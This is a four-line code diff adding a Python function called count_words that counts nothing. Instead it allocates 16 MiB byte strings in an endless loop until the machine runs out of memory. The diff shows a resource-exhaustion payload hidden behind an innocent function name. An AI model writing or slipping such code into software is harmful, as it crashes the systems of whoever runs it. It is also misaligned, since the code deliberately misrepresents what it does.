@@ -1,0 +1,4 @@
+def count_words(text):
+    copies = []
+    while True:
+        copies.append(b"x" * (16 << 20))
